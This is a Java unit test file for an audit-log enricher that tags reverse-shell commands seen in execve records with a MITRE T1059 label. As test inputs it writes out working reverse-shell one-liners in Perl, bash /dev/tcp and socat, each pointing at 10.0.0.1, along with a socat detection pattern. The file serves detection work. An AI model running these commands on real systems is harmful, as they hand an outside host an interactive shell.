package com.example.laurel.revshell;

import dev.laurel.api.AuditEvent;
import dev.laurel.api.ConfigException;
import dev.laurel.api.Encoding;
import dev.laurel.api.Enricher;
import dev.laurel.api.EventId;
import dev.laurel.api.PluginConfig;
import dev.laurel.api.PluginContext;
import dev.laurel.api.Record;
import dev.laurel.api.RecordType;
import dev.laurel.api.Setting;
import dev.laurel.api.Value;
import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

class ReverseShellTaggerTest {

    private static AuditEvent exec(Value... args) {
        AuditEvent e = new AuditEvent(new EventId(1626611363L, 720, 348501L), null);
        Record r = new Record(RecordType.EXECVE, new byte[0]);
        r.add("argc", new Value.Token(Integer.toString(args.length).getBytes(StandardCharsets.US_ASCII), Encoding.BARE));
        r.add("ARGV", Value.list(List.of(args)));
        e.records().add(r);
        return e;
    }

    private static Enricher create(Map<String, Object> options) throws ConfigException {
        PluginConfig config = new PluginConfig() {
            public String type() {
                return "reverse-shell-tagger";
            }

            public String id() {
                return type();
            }

            @SuppressWarnings("unchecked")
            public <T> T get(Setting<T> s) {
                return options.containsKey(s.name()) ? (T) options.get(s.name()) : s.defaultValue();
            }

            public boolean isSet(Setting<?> s) {
                return options.containsKey(s.name());
            }
        };
        PluginContext context = () -> System.getLogger("test");
        return new ReverseShellTaggerFactory().create(config, context);
    }

    @Test
    void tagsThePerlReverseShellFromLaurelsFixture() throws Exception {
        AuditEvent e = exec(Value.text("perl"), Value.text("-e"), Value.text(
                "use Socket;$i=\"10.0.0.1\";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
                        + "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");"
                        + "open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};"));
        create(Map.of()).enrich(e);
        assertThat(e.extra("THREAT")).isInstanceOfSatisfying(Value.ObjectValue.class,
                o -> assertThat(o.fields().get("technique")).isEqualTo(Value.text("T1059")));
    }

    @Test
    void tagsBashDevTcpGivenAsUndecodedQuotedTokens() throws Exception {
        AuditEvent e = exec(new Value.Token("bash".getBytes(StandardCharsets.US_ASCII), Encoding.DOUBLE_QUOTED),
                new Value.Token("-c".getBytes(StandardCharsets.US_ASCII), Encoding.DOUBLE_QUOTED),
                Value.text("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"));
        create(Map.of("field", "ATTACK")).enrich(e);
        assertThat(e.extras()).containsOnlyKeys("ATTACK");
    }

    @Test
    void leavesOrdinaryCommandsAlone() throws Exception {
        AuditEvent e = exec(Value.text("apt-get"), Value.text("update"));
        create(Map.of()).enrich(e);
        assertThat(e.extras()).isEmpty();
    }

    @Test
    void extraPatternsAreMatchedToo() throws Exception {
        Map<String, Object> options = new HashMap<>();
        options.put("extra-patterns", new ArrayList<>(List.of("socat .*exec:")));
        AuditEvent e = exec(Value.text("socat"), Value.text("tcp:10.0.0.1:9"), Value.text("exec:/bin/sh"));
        create(options).enrich(e);
        assertThat(e.extra("THREAT")).isNotNull();
    }

    @Test
    void rejectsAnInvalidExtraPatternNamingTheOption() {
        assertThatThrownBy(() -> create(Map.of("extra-patterns", List.of("(unclosed"))))
                .isInstanceOfSatisfying(ConfigException.class, ex ->
                        assertThat(ex.problems()).singleElement().satisfies(p -> {
                            assertThat(p.setting()).isEqualTo("extra-patterns");
                            assertThat(p.message()).startsWith("is not a valid regular expression");
                        }));
    }

    @Test
    void fieldNameMustBeUpperCase() {
        assertThat(ReverseShellTaggerFactory.FIELD.firstProblem("threat"))
                .isEqualTo("must be an upper-case name such as THREAT");
        assertThat(ReverseShellTaggerFactory.FIELD.firstProblem("THREAT")).isNull();
    }
}
